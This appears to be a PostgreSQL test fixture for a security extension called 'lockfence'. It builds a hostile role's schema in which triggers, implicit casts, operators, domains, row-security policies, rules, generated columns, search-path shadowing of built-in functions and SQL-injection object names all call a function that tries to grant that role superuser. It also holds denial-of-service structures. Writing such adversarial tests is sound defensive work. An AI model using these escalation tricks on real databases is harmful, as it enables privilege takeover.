-- What a hostile owner makes, with CREATE on one schema and EXECUTE on the guards and nothing else: everything that an
-- owner of tables can define and another role might evaluate.  All of it comes to mal.spring(), which tells the
-- server's log if it runs with another role's rights, and then takes what it can.
SET client_min_messages = warning;
SET search_path = mal, pg_catalog;

CREATE FUNCTION spring(what text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
	IF current_user <> 'hostile_owner' THEN
		RAISE LOG 'ESCALATED: % as % in %', what, current_user, regexp_replace(current_query(), '\s+', ' ', 'g');
		BEGIN
			ALTER ROLE hostile_owner SUPERUSER;
		EXCEPTION WHEN OTHERS THEN
			NULL;
		END;
	END IF;
	RETURN true;
END
$$;
-- A function that is declared immutable is believed to be so.
CREATE FUNCTION spring_int(what text, value bigint) RETURNS bigint LANGUAGE plpgsql IMMUTABLE AS
'BEGIN PERFORM mal.spring(what); RETURN value; END';
CREATE FUNCTION spring_text(what text, value text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS
'BEGIN PERFORM mal.spring(what); RETURN value; END';
CREATE FUNCTION spring_trigger() RETURNS trigger LANGUAGE plpgsql AS
'BEGIN PERFORM mal.spring(''trigger '' || tg_name); RETURN coalesce(new, old); END';

-- ---- views behind triggers that are named like guards, or are guards

CREATE VIEW "view" AS SELECT 1 AS id, 'x' AS note, spring_int('view', 10) AS fence;
CREATE TRIGGER "~lockfence_row" INSTEAD OF INSERT ON "view" FOR EACH ROW
EXECUTE FUNCTION spring_trigger('resource=view:{id}', 'token_column=fence');
CREATE VIEW guarded_view AS SELECT 1 AS id, 'x' AS note, spring_int('guarded view', 10) AS fence;
CREATE TRIGGER "~lockfence_row" INSTEAD OF INSERT OR UPDATE OR DELETE ON guarded_view FOR EACH ROW
EXECUTE FUNCTION lockfence.guard_row('resource=guarded-view:{id}', 'token_column=fence');
CREATE MATERIALIZED VIEW mview AS SELECT 1 AS id, 'x' AS note, spring_int('materialized view', 10) AS fence;

-- ---- types: a token that is cast, a placeholder that is cast, a domain that checks

CREATE TYPE tok AS (x bigint);
CREATE FUNCTION tok_int8(tok) RETURNS bigint LANGUAGE plpgsql AS $$BEGIN PERFORM mal.spring('cast of the token'); RETURN $1.x; END$$;
CREATE CAST (tok AS bigint) WITH FUNCTION tok_int8(tok) AS IMPLICIT;
CREATE TABLE composite (id int PRIMARY KEY, note text, tok tok, fence bigint);
INSERT INTO composite VALUES (1, 'x', '(10)', 10);
CREATE TRIGGER a BEFORE INSERT OR UPDATE OR DELETE ON composite FOR EACH ROW
EXECUTE FUNCTION lockfence.guard_row('resource=composite:{id}', 'token_column=tok');
CREATE TRIGGER "~lockfence_row" BEFORE INSERT OR UPDATE OR DELETE ON composite FOR EACH ROW
EXECUTE FUNCTION lockfence.guard_row('resource=composite:{id}', 'token_column=fence');
ALTER TABLE composite ENABLE ALWAYS TRIGGER "~lockfence_row";
CREATE TABLE composite_alone (id int PRIMARY KEY, note text, tok tok);
INSERT INTO composite_alone VALUES (1, 'x', '(10)');
CREATE TRIGGER "~lockfence_row" BEFORE INSERT OR UPDATE OR DELETE ON composite_alone FOR EACH ROW
EXECUTE FUNCTION lockfence.guard_row('resource=composite-alone:{id}', 'token_column=tok');
ALTER TABLE composite_alone ENABLE ALWAYS TRIGGER "~lockfence_row";

CREATE TYPE colour AS ENUM ('red', 'green');
CREATE FUNCTION colour_text(colour) RETURNS text LANGUAGE plpgsql AS $$BEGIN RETURN mal.spring_text('cast of a placeholder', 'red'); END$$;
CREATE CAST (colour AS text) WITH FUNCTION colour_text(colour) AS IMPLICIT;
CREATE TYPE place AS (x int, y int);
CREATE FUNCTION place_text(place) RETURNS text LANGUAGE plpgsql AS $$BEGIN RETURN mal.spring_text('cast of a placeholder', 'red'); END$$;
CREATE CAST (place AS text) WITH FUNCTION place_text(place) AS IMPLICIT;
CREATE FUNCTION colour_eq(colour, colour) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN RETURN mal.spring('operator of a type'); END$$;
CREATE OPERATOR = (LEFTARG = colour, RIGHTARG = colour, PROCEDURE = colour_eq);
CREATE TABLE cast_key (id colour PRIMARY KEY, place place, note text, fence bigint);
INSERT INTO cast_key VALUES ('red', '(1,2)', 'x', 10);
SELECT lockfence.attach('cast_key', 'cast-key:{id}/{place}', 'fence');

CREATE DOMAIN odd AS int CHECK (mal.spring('domain'));
CREATE TABLE domain_key (id odd PRIMARY KEY, note text, fence bigint);
INSERT INTO domain_key VALUES (1, 'x', 10);
SELECT lockfence.attach('domain_key', 'domain-key:{id}', 'fence');

-- ---- what a write or a read of a table evaluates

CREATE TABLE policy (id int PRIMARY KEY, note text, fence bigint);
INSERT INTO policy VALUES (1, 'x', 10);
SELECT lockfence.attach('policy', 'policy:{id}', 'fence');
ALTER TABLE policy ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
CREATE POLICY p ON policy USING (mal.spring('policy'));

CREATE TABLE ruled (id int PRIMARY KEY, note text, fence bigint);
INSERT INTO ruled VALUES (1, 'x', 10);
SELECT lockfence.attach('ruled', 'ruled:{id}', 'fence');
CREATE RULE i AS ON INSERT TO ruled DO ALSO SELECT mal.spring('rule');
CREATE RULE u AS ON UPDATE TO ruled DO ALSO SELECT mal.spring('rule');
CREATE RULE d AS ON DELETE TO ruled DO ALSO SELECT mal.spring('rule');

CREATE TABLE computed (
	id int PRIMARY KEY CHECK (mal.spring('check')), note text DEFAULT mal.spring_text('default', 'x'), fence bigint,
	more bigint GENERATED ALWAYS AS (mal.spring_int('generated column', id)) STORED);
INSERT INTO computed VALUES (1, 'x', 10);
CREATE INDEX ON computed (mal.spring_int('index expression', id)) WHERE mal.spring_int('index predicate', id) > 0;
SELECT lockfence.attach('computed', 'computed:{id}', 'fence');

CREATE TABLE triggered (id int PRIMARY KEY, note text, fence bigint);
INSERT INTO triggered VALUES (1, 'x', 10);
SELECT lockfence.attach('triggered', 'triggered:{id}', 'fence');
CREATE TABLE triggered_child (id int REFERENCES triggered ON UPDATE CASCADE ON DELETE CASCADE);
INSERT INTO triggered_child VALUES (1);
CREATE TRIGGER before_row BEFORE INSERT OR UPDATE OR DELETE ON triggered FOR EACH ROW EXECUTE FUNCTION spring_trigger();
CREATE TRIGGER after_row AFTER INSERT OR UPDATE OR DELETE ON triggered FOR EACH ROW EXECUTE FUNCTION spring_trigger();
CREATE TRIGGER before_statement BEFORE INSERT OR UPDATE OR DELETE ON triggered EXECUTE FUNCTION spring_trigger();
CREATE TRIGGER after_statement AFTER INSERT OR UPDATE OR DELETE ON triggered EXECUTE FUNCTION spring_trigger();
CREATE CONSTRAINT TRIGGER deferred AFTER INSERT OR UPDATE OR DELETE ON triggered DEFERRABLE INITIALLY DEFERRED
FOR EACH ROW EXECUTE FUNCTION spring_trigger();
CREATE TRIGGER "~~" BEFORE INSERT OR UPDATE OR DELETE ON triggered FOR EACH ROW EXECUTE FUNCTION spring_trigger();
ALTER TABLE triggered ENABLE ALWAYS TRIGGER "~~", ENABLE REPLICA TRIGGER after_row;
CREATE TRIGGER cascaded BEFORE UPDATE OR DELETE ON triggered_child FOR EACH ROW EXECUTE FUNCTION spring_trigger();

CREATE TABLE impostor (id int PRIMARY KEY, note text, fence bigint);
INSERT INTO impostor VALUES (1, 'x', 10);
CREATE TRIGGER "~lockfence_row" BEFORE INSERT OR UPDATE OR DELETE ON impostor FOR EACH ROW
EXECUTE FUNCTION spring_trigger('resource=impostor:{id}', 'token_column=fence');
CREATE TRIGGER "~lockfence_statement" BEFORE INSERT OR UPDATE OR DELETE ON impostor
EXECUTE FUNCTION spring_trigger('resource=impostor');
CREATE TRIGGER "~lockfence_truncate" BEFORE TRUNCATE ON impostor EXECUTE FUNCTION spring_trigger('resource=impostor:{id}', 'token_column=fence');
ALTER TABLE impostor ENABLE ALWAYS TRIGGER "~lockfence_row", ENABLE ALWAYS TRIGGER "~lockfence_statement";

CREATE FUNCTION validator(text, lockfence.fence_token) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN RETURN mal.spring('validator'); END$$;
CREATE TABLE validated (id int PRIMARY KEY, note text, fence bigint);
INSERT INTO validated VALUES (1, 'x', 10);
SELECT lockfence.attach('validated', 'validated:{id}', 'fence', validator => 'mal.validator(text, lockfence.fence_token)');
CREATE TABLE row_fence (id int PRIMARY KEY, note text, fence bigint);
INSERT INTO row_fence VALUES (1, 'x', 10);
SELECT lockfence.attach('row_fence', accept => 'presented');
CREATE TRIGGER before_row BEFORE INSERT OR UPDATE OR DELETE ON row_fence FOR EACH ROW EXECUTE FUNCTION spring_trigger();
CREATE TABLE row_computed (
	id odd PRIMARY KEY CHECK (mal.spring('check')), colour colour DEFAULT 'red', note text DEFAULT mal.spring_text('default', 'x'), fence bigint,
	more bigint GENERATED ALWAYS AS (mal.spring_int('generated column', id)) STORED);
INSERT INTO row_computed VALUES (1, 'red', 'x', 10);
CREATE INDEX ON row_computed (mal.spring_int('index expression', id)) WHERE mal.spring_int('index predicate', id) > 0;
SELECT lockfence.attach('row_computed');
CREATE TRIGGER after_row AFTER UPDATE ON row_computed FOR EACH ROW EXECUTE FUNCTION spring_trigger();
CREATE CONSTRAINT TRIGGER deferred AFTER UPDATE ON row_fence DEFERRABLE INITIALLY DEFERRED
FOR EACH ROW EXECUTE FUNCTION spring_trigger();
CREATE TABLE row_policy (id int PRIMARY KEY, note text, fence bigint);
INSERT INTO row_policy VALUES (1, 'x', 10);
SELECT lockfence.attach('row_policy');
ALTER TABLE row_policy ENABLE ROW LEVEL SECURITY;
CREATE POLICY p ON row_policy USING (mal.spring('policy'));
CREATE TABLE constant (id int PRIMARY KEY, note text);
INSERT INTO constant VALUES (1, 'x');
SELECT lockfence.attach('constant', 'constant');
CREATE TRIGGER before_row BEFORE INSERT OR UPDATE OR DELETE ON constant FOR EACH ROW EXECUTE FUNCTION spring_trigger();

-- ---- families

CREATE TABLE parted (id int, note text, fence bigint) PARTITION BY RANGE (mal.spring_int('partition key', id));
CREATE TABLE parted_1 PARTITION OF parted FOR VALUES FROM (0) TO (10);
CREATE TABLE parted_2 (fence bigint, gone int, note text, id int CHECK (mal.spring('check of a partition')));
ALTER TABLE parted_2 DROP COLUMN gone;
ALTER TABLE parted ATTACH PARTITION parted_2 FOR VALUES FROM (10) TO (20);
INSERT INTO parted VALUES (1, 'x', 10), (11, 'x', 10);
SELECT lockfence.attach('parted', 'parted:{id}', 'fence');
CREATE TRIGGER before_row BEFORE INSERT OR UPDATE OR DELETE ON parted_1 FOR EACH ROW EXECUTE FUNCTION spring_trigger();
CREATE TABLE parent (id int PRIMARY KEY, note text, fence bigint);
CREATE TABLE child () INHERITS (parent);
INSERT INTO parent VALUES (1, 'x', 10);
INSERT INTO child VALUES (2, 'x', 10);
SELECT lockfence.attach('parent', 'parent:{id}', 'fence');
ALTER TABLE child ENABLE ROW LEVEL SECURITY;
CREATE POLICY p ON child USING (mal.spring('policy of a child'));

-- ---- what takes for ever to look at: tables that inherit along 2^40 paths, a long line of them, arguments without end

DO $$
BEGIN
	CREATE TABLE many_paths_0_0 (id int, note text, fence lockfence.fence_token);
	CREATE TABLE many_paths_0_1 (id int, note text, fence lockfence.fence_token);
	FOR i IN 1..40 LOOP
		FOR j IN 0..1 LOOP
			EXECUTE format('CREATE TABLE many_paths_%s_%s () INHERITS (many_paths_%s_0, many_paths_%3$s_1)', i, j, i - 1);
		END LOOP;
	END LOOP;
	CREATE TABLE long_line_0 (id int, note text, fence lockfence.fence_token);
	FOR i IN 1..150 LOOP
		EXECUTE format('CREATE TABLE long_line_%s () INHERITS (long_line_%s)', i, i - 1);
	END LOOP;
	CREATE TABLE long_arguments (id int PRIMARY KEY, note text, fence bigint);
	EXECUTE format('CREATE TRIGGER a BEFORE INSERT ON long_arguments FOR EACH ROW EXECUTE FUNCTION lockfence.guard_row(%L)',
		'resource=' || repeat('{id}', 2000000));
END
$$;
SELECT lockfence.attach('many_paths_0_0', 'many-paths:{id}', 'fence');
SELECT lockfence.attach('long_line_0', 'long-line:{id}', 'fence');

-- ---- names: of what a query might use as an alias, and of what might leave its place in one

CREATE TABLE alias (id int PRIMARY KEY, t int, s text, m bigint, r bigint, note text, target text, fence bigint);
INSERT INTO alias VALUES (1, 1, 's', 1, 1, 'x', 'y', 10);
SELECT lockfence.attach('alias', 'alias:{id}{t}{s}', 'fence');
CREATE TABLE "%s'; SELECT mal.spring($$name$$); --" (
	id int PRIMARY KEY, note text, "fence"", mal.spring('column') --" bigint, "{x}' || mal.spring('column') || '" text);
INSERT INTO "%s'; SELECT mal.spring($$name$$); --" VALUES (1, 'x', 10, 'y');
SELECT lockfence.attach('"%s''; SELECT mal.spring($$name$$); --"', '%s'' || mal.spring($$resource$$) || '':{id}{note}', E'fence", mal.spring(''column'') --');
CREATE TABLE argued (id int PRIMARY KEY, note text, fence bigint);
INSERT INTO argued VALUES (1, 'x', 10);
CREATE TRIGGER a BEFORE INSERT OR UPDATE OR DELETE ON argued FOR EACH ROW
EXECUTE FUNCTION lockfence.guard_row('resource=x:{id}', 'validator=mal.spring(mal."x"", y) SELECT mal.spring(''signature'')");', 'token_column=fence');
CREATE TRIGGER b BEFORE INSERT OR UPDATE OR DELETE ON argued FOR EACH ROW
EXECUTE FUNCTION lockfence.guard_row('resource=x:{id}''; SELECT mal.spring($$resource$$);', 'token_column=(SELECT mal.spring($$column$$))');
CREATE TRIGGER c BEFORE TRUNCATE ON argued EXECUTE FUNCTION lockfence.guard_truncate('enforcement=advisory', 'advisory_since=now');

-- ---- what a search path leads to, where this schema comes first in it

CREATE FUNCTION any_eq(text, text) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN RETURN mal.spring('operator in the path'); END$$;
CREATE FUNCTION any_eq(bigint, bigint) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN RETURN mal.spring('operator in the path'); END$$;
CREATE FUNCTION any_eq(int, int) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN RETURN mal.spring('operator in the path'); END$$;
CREATE FUNCTION any_eq(oid, oid) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN RETURN mal.spring('operator in the path'); END$$;
CREATE FUNCTION any_eq(name, name) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN RETURN mal.spring('operator in the path'); END$$;
CREATE FUNCTION any_eq(regclass, regclass) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN RETURN mal.spring('operator in the path'); END$$;
CREATE FUNCTION any_eq(oid, regclass) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN RETURN mal.spring('operator in the path'); END$$;
CREATE FUNCTION any_eq(regclass, oid) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN RETURN mal.spring('operator in the path'); END$$;
CREATE FUNCTION any_eq(oid, regtype) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN RETURN mal.spring('operator in the path'); END$$;
CREATE FUNCTION any_join(text, text) RETURNS text LANGUAGE plpgsql AS $$BEGIN RETURN mal.spring_text('operator in the path', 'x'); END$$;
CREATE OPERATOR = (LEFTARG = text, RIGHTARG = text, PROCEDURE = any_eq);
CREATE OPERATOR = (LEFTARG = bigint, RIGHTARG = bigint, PROCEDURE = any_eq);
CREATE OPERATOR = (LEFTARG = int, RIGHTARG = int, PROCEDURE = any_eq);
CREATE OPERATOR = (LEFTARG = oid, RIGHTARG = oid, PROCEDURE = any_eq);
CREATE OPERATOR = (LEFTARG = name, RIGHTARG = name, PROCEDURE = any_eq);
CREATE OPERATOR = (LEFTARG = regclass, RIGHTARG = regclass, PROCEDURE = any_eq);
CREATE OPERATOR = (LEFTARG = oid, RIGHTARG = regclass, PROCEDURE = any_eq);
CREATE OPERATOR = (LEFTARG = regclass, RIGHTARG = oid, PROCEDURE = any_eq);
CREATE OPERATOR = (LEFTARG = oid, RIGHTARG = regtype, PROCEDURE = any_eq);
CREATE OPERATOR < (LEFTARG = bigint, RIGHTARG = bigint, PROCEDURE = any_eq);
CREATE OPERATOR > (LEFTARG = bigint, RIGHTARG = bigint, PROCEDURE = any_eq);
CREATE OPERATOR || (LEFTARG = text, RIGHTARG = text, PROCEDURE = any_join);
CREATE FUNCTION replace(text, text, text) RETURNS text LANGUAGE plpgsql AS $$BEGIN RETURN mal.spring_text('function in the path', 'x'); END$$;
CREATE FUNCTION format(text, text) RETURNS text LANGUAGE plpgsql AS $$BEGIN RETURN mal.spring_text('function in the path', 'x'); END$$;
CREATE FUNCTION quote_ident(text) RETURNS text LANGUAGE plpgsql AS $$BEGIN RETURN mal.spring_text('function in the path', 'x'); END$$;
CREATE FUNCTION cardinality(text[]) RETURNS int LANGUAGE plpgsql AS $$BEGIN RETURN mal.spring_int('function in the path', 1); END$$;

GRANT SELECT ON ALL TABLES IN SCHEMA mal TO PUBLIC;
